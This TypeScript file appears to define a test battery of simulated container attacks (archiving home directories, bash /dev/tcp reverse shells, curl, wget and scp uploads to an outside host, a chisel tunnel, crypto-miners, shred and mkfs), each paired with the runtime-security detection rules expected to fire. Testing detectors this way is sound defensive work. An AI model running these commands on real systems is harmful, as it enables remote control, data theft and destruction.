/** Collection, command and control, exfiltration and impact. */
import type { Action } from '../battery.ts';
import { outside } from '../scene.ts';
import { inside, onHost } from './write.ts';

const shellInside = 'Shell in a container';
const terminal = 'Connection in place of a terminal';
const shellConnects = 'Shell opens a connection';
const procs = 'System procs network activity';
const redirect = 'Redirect STDOUT/STDIN to Network Connection in Container';
const dropped = 'Program that is not from the image';
const officialDropped = 'Drop and execute new binary in container';
const upload = 'Files uploaded by a command';
const store = 'Copying to a store of strangers';
const kubectlCp = 'Exfiltrating Artifacts via Kubernetes Control Plane';
const destroyed = 'Data destroyed';

const collection: readonly Action[] = [
  inside('collection', 'an archive of a home', ['tar', 'cf', '/tmp/a.tar', '/home/ada'], { own: ['Archive of what a container should keep'], official: [kubectlCp], note: 'the official rule takes every tar of a session for kubectl cp' }, { prepare: 'mkdir -p /home/ada\necho one > /home/ada/letter' }),
  inside('collection', 'files of a database', ['cp', '/var/lib/mysql/ibdata1', '/tmp/ibdata1'], { own: ['Files of a database read past it'], official: [] }, { prepare: 'mkdir -p /var/lib/mysql\necho data > /var/lib/mysql/ibdata1' }),
  onHost('collection', 'files of a database on the host', ['cat', '/var/lib/postgresql/15/main/base/1/1259'], { own: ['Files of a database read past it'], official: [] }, { prepare: 'mkdir -p /var/lib/postgresql/15/main/base/1\necho data > /var/lib/postgresql/15/main/base/1/1259' }),
];

const control: readonly Action[] = [
  inside('command-and-control', 'a reverse shell', ['attack', 'reverse-shell', outside, '4444'], { own: [terminal, shellInside], official: [redirect] }),
  onHost('command-and-control', 'a reverse shell on the host', ['attack', 'reverse-shell', outside, '4444'], { own: [terminal], official: [], note: 'the official rule sees containers alone' }),
  inside('command-and-control', 'a reverse shell of bash', ['attack', 'serve-for', outside, '4445', '/bin/bash', '-c', `exec 5<> /dev/tcp/${outside}/4445; id <&5 >&5`], { own: [terminal, shellInside, shellConnects], official: [redirect, procs] }),
  onHost('command-and-control', 'bash connects on the host', ['attack', 'serve-for', outside, '4446', '/bin/bash', '-c', `exec 5<> /dev/tcp/${outside}/4446`], { own: [shellConnects], official: [procs] }),
  inside('command-and-control', 'a dropped program calls out', ['/srv/attack', 'connect', outside, '8443'], { own: [dropped, 'Program that is not from the image calls out'], official: [officialDropped] }, { prepare: 'cp /usr/bin/attack /srv/attack' }),
  inside('command-and-control', 'a tunnel', ['/usr/bin/chisel', 'client', outside, 'R:socks'], { own: ['Tunnel runs'], official: [] }),
  inside('command-and-control', 'a download made executable', ['chmod', '755', '/tmp/download'], { own: ['File in a temporary directory made executable'], official: [] }, { prepare: 'cp /etc/hostname /tmp/download' }),
  inside('command-and-control', 'software installed', ['apt-get', 'install', '--yes', 'no-such-package'], { own: ['Software installed in a container'], official: ['Launch Package Management Process in Container'] }),
];

const exfiltration: readonly Action[] = [
  inside('exfiltration', 'curl sends a file', ['/usr/bin/curl', '-T', '/etc/hostname', `http://${outside}/`], { own: [upload], official: [], note: 'the official rule knows downloads' }),
  inside('exfiltration', 'wget sends a file', ['/usr/bin/wget', '--post-file=/etc/hostname', `http://${outside}/`], { own: [upload], official: ['Launch Ingress Remote File Copy Tools in Container'] }),
  inside('exfiltration', 'rclone', ['/usr/bin/rclone', 'copy', '/srv', 'remote:bucket'], { own: [store], official: [] }),
  inside('exfiltration', 'scp', ['/usr/bin/scp', '/etc/hostname', `eve@${outside}:`], { own: [store], official: ['Launch Remote File Copy Tools in Container'] }),
  inside('exfiltration', 'files copied out by a session', ['tar', 'cf', '-', '/srv/app/main.js'], { own: ['Files copied out by a session'], official: [kubectlCp] }),
];

const impact: readonly Action[] = [
  inside('impact', 'a miner', ['/usr/bin/xmrig', '--background'], { own: ['Miner runs'], official: [] }),
  inside('impact', 'a miner under another name', ['/usr/bin/helper', '-o', `stratum+tcp://${outside}:3333`], { own: ['Miner runs'], official: [] }),
  inside('impact', 'a pool of miners', ['attack', 'connect', outside, '3333'], { own: ['Connection to a pool of miners'], official: [] }),
  inside('impact', 'a file overwritten for good', ['shred', '/tmp/note'], { own: [destroyed], official: ['Remove Bulk Data from Disk'] }, { prepare: 'echo note > /tmp/note' }),
  onHost('impact', 'a new file system', ['/usr/local/bin/mkfs.ext4', '/dev/nothing'], { own: [destroyed], official: [], note: 'the official list has mkfs, not the programs that it starts' }, { prepare: 'cp "$PROGRAM" /usr/local/bin/mkfs.ext4' }),
  inside('impact', 'a file locked', ['mv', '/tmp/report', '/tmp/report.locked'], { own: ['File renamed as if encrypted'], official: [] }, { prepare: 'echo one > /tmp/report' }),
  inside('impact', 'the machine told to stop', ['/usr/bin/reboot'], { own: ['Machine stopped from a container'], official: [] }),
];

export const taking: readonly Action[] = [...collection, ...control, ...exfiltration, ...impact];
